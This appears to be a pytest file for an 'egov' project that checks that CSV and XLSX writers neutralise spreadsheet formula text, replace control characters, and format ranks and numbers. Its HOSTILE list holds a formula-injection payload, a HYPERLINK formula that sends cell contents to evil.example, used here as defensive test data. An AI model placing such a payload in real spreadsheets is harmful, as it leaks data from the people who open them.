"""The one definition of unsafe cell text (egov.cells; issue 13, points 1 and 13): CSV writers
neutralise text a spreadsheet would run as a formula and leave numbers alone; XLSX writers
never crash on a control character stored in a name — `egov template` and `egov report`
write a valid workbook with such a name inserted directly into the database."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook
from sqlalchemy import text

from egov.cells import (
    control_problem,
    neutral_frame,
    neutral_row,
    neutralise,
    plain_number,
    plain_pair,
    write_csv,
    write_text,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "@SUM(1)", "-2+3", "+1", "\tx", "\rx"]


def test_text_is_neutralised_and_numbers_are_not() -> None:
    assert [neutralise(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert neutralise("plain - text") == "plain - text" and neutralise("'=1") == "'=1"  # idempotent
    assert neutral_row(["=1", -0.5, 3, None, "ok"]) == ["'=1", -0.5, 3, None, "ok"]
    df = pd.DataFrame(
        {
            "unit": ["=1+1", "-2+3", "ok"],
            "score": [-0.5, 1.0, np.nan],
            "rank": [1, -2, 3],
            "mixed": ["-1", 2.5, None],
            "group": pd.Categorical(["@g", "h", "@g"]),
        },
        index=pd.Index(["=a", "b", "c"], name="@idx"),
    )
    out = neutral_frame(df)
    assert list(out["unit"]) == ["'=1+1", "'-2+3", "ok"]
    assert out["score"].tolist()[:2] == [-0.5, 1.0] and out["score"].dtype == float
    assert out["rank"].tolist() == [1, -2, 3]
    assert out["mixed"].tolist() == ["'-1", 2.5, None]  # text "-1" is text; the number stays
    assert list(out["group"]) == ["'@g", "h", "'@g"]
    assert list(out.index) == ["'=a", "b", "c"]
    assert df["unit"].tolist() == ["=1+1", "-2+3", "ok"]  # the input is not changed
    multi = neutral_frame(df.set_index(["unit", "rank"]))
    assert list(multi.index) == [("'=1+1", 1), ("'-2+3", -2), ("ok", 3)]


def test_write_csv_keeps_numbers_and_quotes_a_carriage_return(tmp_path: Path) -> None:
    df = pd.DataFrame({"unit": ["=1+1", "\r=2", "u"], "value": [-0.5, 2.0, 3.0]})
    path = tmp_path / "t.csv"
    write_csv(df, path, index=False)
    back = pd.read_csv(path)
    assert back["unit"].tolist() == ["'=1+1", "'\r=2", "u"] and back["value"].tolist() == [-0.5, 2.0, 3.0]
    plain = tmp_path / "plain.csv"
    write_csv(pd.DataFrame({"unit": ["-x"], "value": [-1.5]}), plain, index=False)
    assert plain.read_bytes() == b"unit,value\n'-x,-1.5\n"


def test_write_text_never_crashes_on_a_control_character(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    write_text(ws["A1"], "Dept\x07Bell")
    write_text(ws["A2"], "=1+1\x1b")
    write_text(ws["A3"], "line\nbreak\ttab")
    wb.save(tmp_path / "w.xlsx")
    back = openpyxl.load_workbook(tmp_path / "w.xlsx").active
    assert back is not None
    assert back["A1"].value == "Dept\ufffdBell"
    assert back["A2"].value == "=1+1\ufffd" and back["A2"].data_type == "s" and back["A2"].quotePrefix
    assert back["A3"].value == "line\nbreak\ttab"


def test_control_problem_names_the_character_and_where() -> None:
    assert control_problem("Plain name 名稱") is None
    assert control_problem("A\x07B", "the en name") == (
        "control character U+0007 (bell) at character 2 of the en name; remove it "
        "(it must be one line of printable text)"
    )
    for ch in ("\x00", "\t", "\n", "\x7f", "\x85", "\x9b"):
        assert control_problem(f"x{ch}") is not None, repr(ch)
    assert control_problem("two\nlines\tand tab", "note", free_text=True) is None
    assert "U+0085 (next line)" in str(control_problem("a\x85", "note", free_text=True))


def _sheet_texts(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [
        str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    ]


@pytest.mark.slow
def test_template_and_report_write_names_with_control_characters(
    demo_url: str, egov: Any, tmp_path: Path
) -> None:
    """Names holding a bell and an escape (put in the database directly: the import refuses
    them) reach both workbooks as U+FFFD, and both files are valid (openpyxl reopens them)."""
    from egov.db import session_scope

    with session_scope() as s:
        s.execute(text("UPDATE department SET name_en = 'Dept' || char(7) || 'Bell' WHERE code = 'DSAMA'"))
        s.execute(
            text("UPDATE assessed_object SET name_en = 'Obj' || char(27) || 'Esc' WHERE code = 'CARIC'")
        )
        period = s.execute(text("SELECT code FROM period ORDER BY id DESC")).scalars().first()
    r = egov(["template", "--period", period, "--out", tmp_path / "t.xlsx", "--lang", "en"])
    assert r.code == 0, r.err
    assert "Obj\ufffdEsc" in _sheet_texts((tmp_path / "t.xlsx").read_bytes())
    r = egov(["report", "latest", "--out", tmp_path / "out", "--lang", "en"])
    assert r.code == 0, r.err
    (xlsx,) = (tmp_path / "out").glob("assessor-report-*.xlsx")
    texts = _sheet_texts(xlsx.read_bytes())
    assert any("Dept\ufffdBell" in t for t in texts) and any("Obj\ufffdEsc" in t for t in texts)
    with zipfile.ZipFile(xlsx) as zf:
        assert not any(b"\x07" in zf.read(n) or b"\x1b" in zf.read(n) for n in zf.namelist())


# --- issue 14: ranks are integers in every CSV, numbers people read are plain -------------------
def test_ranks_are_written_as_integers(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "unit": ["a", "b", "c"],
            "Rank": [1.0, 2.0, np.nan],
            "score": [72.5, 70.0, np.nan],
            "peer_rank": [1.0, np.nan, 1.0],
            "rank_p05": [1.0, 1.0, 2.0],
            "median_rank": [1.5, 2.0, 3.0],  # not whole numbers: left as they are
            "tier": [1.0, 1.0, 2.0],
        }
    )
    path = tmp_path / "r.csv"
    write_csv(df, path, index=False, float_format="%.6f")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[1:] == [
        "a,1,72.500000,1,1,1.500000,1",
        "b,2,70.000000,,1,2.000000,1",
        "c,,,1,2,3.000000,2",
    ]
    # a table of ranks only (units × nodes), named by the caller
    ranks = pd.DataFrame({"x": [1.0, 2.0], "y": [2.0, np.nan]}, index=pd.Index(["a", "b"], name="unit"))
    write_csv(ranks, path, ranks=ranks.columns)
    assert path.read_text(encoding="utf-8").splitlines() == ["unit,x,y", "a,1,2", "b,2,"]
    assert df["Rank"].dtype == float  # the caller's frame is not changed


def test_numbers_people_read_are_plain() -> None:
    assert plain_number(0.1 * 727) == "72.7"  # 72.70000000000000284 in %.17g
    assert plain_number(np.float64(68.0625)) == "68.0625"  # never np.float64(…)
    assert plain_number(654.0) == "654" and plain_number(np.int64(3)) == "3"
    assert plain_number(float("nan")) == "—" and plain_number(None, missing="missing") == "missing"
    assert plain_pair(70.0, 70.0 + 1e-13) == ("70.0", "70.0000000000001")  # they differ: every digit
    assert plain_pair(72.7, 72.5) == ("72.7", "72.5")
